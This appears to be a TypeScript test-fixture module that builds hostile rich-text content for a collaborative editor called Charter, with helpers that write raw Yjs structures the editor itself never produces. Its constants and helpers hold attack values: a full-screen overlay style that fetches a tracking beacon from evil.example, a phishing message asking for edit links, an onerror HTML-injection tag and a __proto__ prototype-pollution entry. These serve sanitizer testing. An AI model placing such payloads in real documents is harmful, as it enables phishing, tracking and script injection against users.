import * as Y from 'yjs';

/**
 * What a modified client can write into a rich-text field, in @lexical/yjs's V1 layout, without
 * going through Charter's editor: styles, unknown node types, nesting no editor makes.
 */

/** An inline style that would cover the page and fetch an outside image, as the review saw. */
export const OVERLAY_STYLE =
	'position:fixed;inset:0;z-index:2147483647;display:block;font-size:48px;' +
	'background:#fff url(http://evil.example/beacon.png?who=viewer)';

/** The text the overlay shows. */
export const OVERLAY_TEXT = 'Session expired. Paste your edit link at evil.example';

function element(parent: Y.XmlText, offset: number, type: string): Y.XmlText {
	const child = new Y.XmlText();
	parent.insertEmbed(offset, child);
	child.setAttribute('__type', type);
	return child;
}

function text(parent: Y.XmlText, offset: number, content: string, props: [string, unknown][] = []) {
	parent.insertEmbed(offset, new Y.Map<unknown>([['__type', 'text'], ['__format', 0], ...props]));
	parent.insert(offset + 1, content);
}

/** Appends a paragraph of plain text. */
export function appendParagraph(field: Y.XmlText, content: string): Y.XmlText {
	const paragraph = element(field, field.length, 'paragraph');
	text(paragraph, 0, content);
	return paragraph;
}

/** Appends a paragraph whose element, and whose text, carry `style`. */
export function appendStyledParagraph(field: Y.XmlText, content: string, style: string): void {
	const paragraph = element(field, field.length, 'paragraph');
	paragraph.setAttribute('__style', style);
	paragraph.setAttribute('__textStyle', style);
	text(paragraph, 0, content, [['__style', style]]);
}

/** Appends a heading whose tag is markup, whose style is `style`, and a text that would replace its prototype. */
export function appendBogusHeading(field: Y.XmlText, style: string): void {
	const heading = element(field, field.length, 'heading');
	heading.setAttribute('__tag', 'img src=x onerror=alert(1)');
	heading.setAttribute('__style', style);
	text(heading, 0, 'Heading with a tag that is no tag', [
		['__style', style],
		['__proto__', { polluted: true }]
	]);
}

/** Appends a block of a node type Charter does not have, holding `content`. */
export function appendUnknownBlock(field: Y.XmlText, type: string, content: string): void {
	text(element(field, field.length, type), 0, content);
}

/** Appends a list nested `depth` levels deep (each level a list and an item), text at the bottom. */
export function appendDeepList(field: Y.XmlText, depth: number, content: string): void {
	let list = element(field, field.length, 'list');
	list.setAttribute('__listType', 'bullet');
	for (let level = 1; level < depth; level++) {
		const item = element(list, 0, 'listitem');
		list = element(item, 0, 'list');
		list.setAttribute('__listType', 'bullet');
	}
	text(element(list, 0, 'listitem'), 0, content);
}

/** Appends a paragraph holding links nested `depth` deep, text at the bottom. */
export function appendDeepLinks(field: Y.XmlText, depth: number, content: string): void {
	let parent = element(field, field.length, 'paragraph');
	for (let level = 0; level < depth; level++) {
		parent = element(parent, 0, 'link');
		parent.setAttribute('__url', 'https://example.com/');
	}
	text(parent, 0, content);
}
